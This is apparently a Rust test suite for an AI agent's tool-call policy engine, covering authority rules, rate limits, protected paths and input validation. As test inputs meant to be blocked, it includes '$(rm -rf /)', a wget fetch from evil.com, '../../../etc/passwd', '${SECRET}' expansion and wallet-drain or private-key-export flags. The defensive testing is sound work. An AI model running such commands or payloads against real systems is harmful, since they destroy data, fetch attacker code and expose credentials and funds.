use ironclad_agent::policy::{
    collect_string_values, is_financial_tool, is_wallet_config_or_drain, AuthorityRule,
    CommandSafetyRule, InputAuthority, JsonValue, PathProtectionRule, PolicyContext,
    PolicyDecision, RateLimitRule, RiskLevel, SurvivalTier, ToolCallRequest, ValidationRule,
    MAX_ARG_SIZE_BYTES, is_in_tmp,
};

fn s(v: &str) -> JsonValue {
    JsonValue::Str(v.to_string())
}

fn n(v: &str) -> JsonValue {
    JsonValue::Number(v.to_string())
}

fn obj(entries: Vec<(&str, JsonValue)>) -> JsonValue {
    JsonValue::Object(entries.into_iter().map(|(k, v)| (k.to_string(), v)).collect())
}

fn ctx(authority: InputAuthority) -> PolicyContext {
    PolicyContext {
        authority,
        survival_tier: SurvivalTier::Normal,
    }
}

fn make_request(tool: &str, risk: RiskLevel) -> ToolCallRequest {
    ToolCallRequest {
        tool_name: tool.into(),
        params: obj(vec![]),
        risk_level: risk,
    }
}

fn with_params(tool: &str, params: JsonValue) -> ToolCallRequest {
    ToolCallRequest {
        tool_name: tool.into(),
        params,
        risk_level: RiskLevel::Safe,
    }
}

fn path_request(path: &str) -> ToolCallRequest {
    with_params("read_file", obj(vec![("path", s(path))]))
}

#[test]
fn authority_based_blocking() {
    let rule = AuthorityRule;
    let external = ctx(InputAuthority::External);
    assert!(rule.evaluate(&make_request("echo", RiskLevel::Safe), &external).is_allowed());
    assert!(!rule
        .evaluate(&make_request("rm_file", RiskLevel::Caution), &external)
        .is_allowed());

    let creator = ctx(InputAuthority::Creator);
    assert!(rule
        .evaluate(&make_request("nuke", RiskLevel::Dangerous), &creator)
        .is_allowed());

    let own = ctx(InputAuthority::SelfGenerated);
    assert!(rule.evaluate(&make_request("cmd", RiskLevel::Dangerous), &own).is_allowed());
    assert!(!rule.evaluate(&make_request("cmd", RiskLevel::Forbidden), &own).is_allowed());
}

#[test]
fn command_safety_blocks_forbidden() {
    let rule = CommandSafetyRule;
    let creator = ctx(InputAuthority::Creator);
    assert!(!rule
        .evaluate(&make_request("evil", RiskLevel::Forbidden), &creator)
        .is_allowed());
    assert!(rule
        .evaluate(&make_request("good", RiskLevel::Dangerous), &creator)
        .is_allowed());
}

#[test]
fn allow_pass_through() {
    let c = PolicyContext {
        authority: InputAuthority::Creator,
        survival_tier: SurvivalTier::High,
    };
    let req = make_request("read_file", RiskLevel::Safe);
    assert!(AuthorityRule.evaluate(&req, &c).is_allowed());
    assert!(CommandSafetyRule.evaluate(&req, &c).is_allowed());
}

#[test]
fn path_protection_blocks_env_allows_normal() {
    let rule = PathProtectionRule::default();
    let c = ctx(InputAuthority::Creator);
    let decision = rule.evaluate(&path_request("/app/.env"), &c);
    assert!(!decision.is_allowed());
    if let PolicyDecision::Deny { reason, .. } = &decision {
        assert!(reason.contains(".env") || reason.contains("protected"));
    }
    assert!(rule.evaluate(&path_request("/tmp/foo.txt"), &c).is_allowed());
}

#[test]
fn rate_limit_blocks_over_limit_allows_under() {
    let mut rule = RateLimitRule::new(2);
    let t = 1_000_000u64;
    assert!(rule.evaluate_at(&make_request("foo", RiskLevel::Safe), t).is_allowed());
    assert!(rule.evaluate_at(&make_request("foo", RiskLevel::Safe), t + 1).is_allowed());
    assert!(!rule.evaluate_at(&make_request("foo", RiskLevel::Safe), t + 2).is_allowed());
    assert!(rule.evaluate_at(&make_request("bar", RiskLevel::Safe), t + 3).is_allowed());
}

#[test]
fn rate_limit_forgets_calls_older_than_a_minute() {
    let mut rule = RateLimitRule::new(1);
    let t = 1_000_000u64;
    assert!(rule.evaluate_at(&make_request("foo", RiskLevel::Safe), t).is_allowed());
    assert!(!rule.evaluate_at(&make_request("foo", RiskLevel::Safe), t + 59_000).is_allowed());
    assert!(rule.evaluate_at(&make_request("foo", RiskLevel::Safe), t + 61_000).is_allowed());
}

#[test]
fn validation_rejects_oversized_and_malicious() {
    let rule = ValidationRule;
    let c = ctx(InputAuthority::Creator);

    let data = "x".repeat(101 * 1024);
    let huge = with_params("echo", obj(vec![("data", s(&data))]));
    let huge_size = data.len() + r#"{"data":""}"#.len();
    assert!(!rule.evaluate(&huge, &c, huge_size).is_allowed());

    let shell_injection = with_params("run", obj(vec![("cmd", s("$(rm -rf /)"))]));
    assert!(!rule.evaluate(&shell_injection, &c, 22).is_allowed());

    let path_traversal = with_params("read", obj(vec![("path", s("../../../etc/passwd"))]));
    assert!(!rule.evaluate(&path_traversal, &c, 30).is_allowed());

    let ok = with_params("echo", obj(vec![("msg", s("hello"))]));
    assert!(rule.evaluate(&ok, &c, 15).is_allowed());
    assert!(!rule.evaluate(&ok, &c, MAX_ARG_SIZE_BYTES + 1).is_allowed());
}

#[test]
fn collect_string_values_nested_arrays() {
    let val = JsonValue::Array(vec![
        JsonValue::Array(vec![s("a"), s("b")]),
        JsonValue::Array(vec![s("c")]),
    ]);
    let mut out = Vec::new();
    collect_string_values(&val, &mut out);
    assert_eq!(out, vec!["a", "b", "c"]);
}

#[test]
fn collect_string_values_nested_objects() {
    let val = obj(vec![
        ("a", obj(vec![("b", s("deep")), ("c", n("42"))])),
        ("d", s("top")),
    ]);
    let mut out = Vec::new();
    collect_string_values(&val, &mut out);
    assert!(out.contains(&"deep".to_string()));
    assert!(out.contains(&"top".to_string()));
    assert_eq!(out.len(), 2);
}

#[test]
fn collect_string_values_mixed() {
    let val = obj(vec![
        (
            "items",
            JsonValue::Array(vec![
                obj(vec![("name", s("file.txt"))]),
                obj(vec![("name", s("dir/sub.py"))]),
            ]),
        ),
        ("count", n("2")),
        ("flag", JsonValue::Bool(true)),
        ("label", s("test")),
    ]);
    let mut out = Vec::new();
    collect_string_values(&val, &mut out);
    assert!(out.contains(&"file.txt".to_string()));
    assert!(out.contains(&"dir/sub.py".to_string()));
    assert!(out.contains(&"test".to_string()));
    assert_eq!(out.len(), 3);
}

#[test]
fn collect_string_values_primitives_skipped() {
    let mut out = Vec::new();
    collect_string_values(&n("42"), &mut out);
    assert!(out.is_empty());
    collect_string_values(&JsonValue::Bool(true), &mut out);
    assert!(out.is_empty());
    collect_string_values(&JsonValue::Null, &mut out);
    assert!(out.is_empty());
}

#[test]
fn authority_peer_allows_safe_blocks_caution() {
    let rule = AuthorityRule;
    let peer = ctx(InputAuthority::Peer);
    assert!(rule.evaluate(&make_request("echo", RiskLevel::Safe), &peer).is_allowed());
    assert!(rule
        .evaluate(&make_request("read_file", RiskLevel::Caution), &peer)
        .is_allowed());
    assert!(!rule
        .evaluate(&make_request("write_file", RiskLevel::Dangerous), &peer)
        .is_allowed());
}

#[test]
fn financial_is_financial_tool_names() {
    assert!(is_financial_tool("transfer_usdc"));
    assert!(is_financial_tool("send_payment"));
    assert!(is_financial_tool("withdraw_funds"));
    assert!(is_financial_tool("deposit_eth"));
    assert!(is_financial_tool("process_payment"));
    assert!(is_financial_tool("wallet_balance"));
    assert!(!is_financial_tool("read_file"));
    assert!(!is_financial_tool("echo"));
}

#[test]
fn financial_wallet_config_drain_patterns() {
    assert!(is_wallet_config_or_drain(&obj(vec![("drain", JsonValue::Bool(true))])));
    assert!(is_wallet_config_or_drain(&obj(vec![("withdraw_all", JsonValue::Bool(true))])));
    assert!(is_wallet_config_or_drain(&obj(vec![(
        "export_private_key",
        JsonValue::Bool(true)
    )])));
    assert!(is_wallet_config_or_drain(&obj(vec![("set_wallet_path", s("/tmp/evil"))])));
    assert!(!is_wallet_config_or_drain(&obj(vec![("amount", n("100"))])));
    assert!(!is_wallet_config_or_drain(&s("not an object")));
}

#[test]
fn validation_looks_malicious_wget() {
    let req = with_params("run", obj(vec![("cmd", s("; wget http://evil.com/payload"))]));
    assert!(!ValidationRule
        .evaluate(&req, &ctx(InputAuthority::Creator), 40)
        .is_allowed());
}

#[test]
fn validation_looks_malicious_backtick() {
    let req = with_params("run", obj(vec![("cmd", s("echo $(`whoami`)"))]));
    assert!(!ValidationRule
        .evaluate(&req, &ctx(InputAuthority::Creator), 30)
        .is_allowed());
}

#[test]
fn validation_looks_malicious_dollar_brace() {
    let req = with_params("run", obj(vec![("cmd", s("echo ${SECRET}"))]));
    assert!(!ValidationRule
        .evaluate(&req, &ctx(InputAuthority::Creator), 30)
        .is_allowed());
}

#[test]
fn path_protection_detects_nested_protected_paths() {
    let rule = PathProtectionRule::default();
    let nested = with_params(
        "process",
        obj(vec![(
            "files",
            JsonValue::Array(vec![obj(vec![("path", s("/etc/shadow"))])]),
        )]),
    );
    assert!(!rule.evaluate(&nested, &ctx(InputAuthority::Creator)).is_allowed());
}

#[test]
fn path_protection_wallet_json() {
    let rule = PathProtectionRule::default();
    assert!(!rule
        .evaluate(&path_request("data/wallet.json"), &ctx(InputAuthority::Creator))
        .is_allowed());
}

#[test]
fn path_protection_ssh_dir() {
    let rule = PathProtectionRule::default();
    assert!(!rule
        .evaluate(&path_request(".ssh/id_rsa"), &ctx(InputAuthority::Creator))
        .is_allowed());
}

#[test]
fn path_protection_workspace_only_blocks_absolute() {
    let rule = PathProtectionRule {
        protected: vec![],
        workspace_only: true,
    };
    let c = ctx(InputAuthority::Creator);
    assert!(!rule.evaluate(&path_request("/home/user/secret.txt"), &c).is_allowed());
    assert!(rule.evaluate(&path_request("/tmp/scratch.txt"), &c).is_allowed());
    assert!(rule.evaluate(&path_request("src/main.rs"), &c).is_allowed());
}

#[test]
fn path_protection_workspace_only_disabled() {
    let rule = PathProtectionRule {
        protected: vec![],
        workspace_only: false,
    };
    assert!(rule
        .evaluate(&path_request("/home/user/document.txt"), &ctx(InputAuthority::Creator))
        .is_allowed());
}

#[test]
fn path_protection_from_config_merges_lists() {
    let rule = PathProtectionRule::from_settings(
        &[".env".to_string(), "secret.key".to_string()],
        &["custom.pem".to_string()],
        false,
    );
    assert!(!rule.workspace_only);
    assert_eq!(rule.protected.len(), 3);
    assert!(rule.protected.contains(&"custom.pem".to_string()));
    assert!(!rule
        .evaluate(&path_request("deploy/custom.pem"), &ctx(InputAuthority::Creator))
        .is_allowed());
}

#[test]
fn rule_names_and_priorities() {
    assert_eq!(AuthorityRule.name(), "authority");
    assert_eq!(AuthorityRule.priority(), 1);
    assert_eq!(CommandSafetyRule.priority(), 2);
    assert_eq!(ValidationRule.priority(), 6);
    assert!(RiskLevel::Safe.rank() < RiskLevel::Forbidden.rank());
}

#[test]
fn protected_match_reports_the_pattern() {
    let rule = PathProtectionRule::default();
    assert_eq!(
        rule.matches_protected("/srv/app/.env.local").map(|p| p.as_str()),
        Some(".env")
    );
    assert!(rule.matches_protected("notes.md").is_none());
}

#[test]
fn workspace_only_tmp_is_judged_by_components() {
    let rule = PathProtectionRule::new(vec![]);
    let c = ctx(InputAuthority::Creator);
    assert!(!rule.evaluate(&path_request("/tmpevil/secret.txt"), &c).is_allowed());
    assert!(rule.evaluate(&path_request("/tmp"), &c).is_allowed());
    assert!(rule.evaluate(&path_request("/tmp/a/b"), &c).is_allowed());
    assert!(!rule.evaluate(&path_request("/var/tmp/x"), &c).is_allowed());
    assert!(is_in_tmp("/tmp/x") && is_in_tmp("/tmp") && !is_in_tmp("/tmpx"));
}
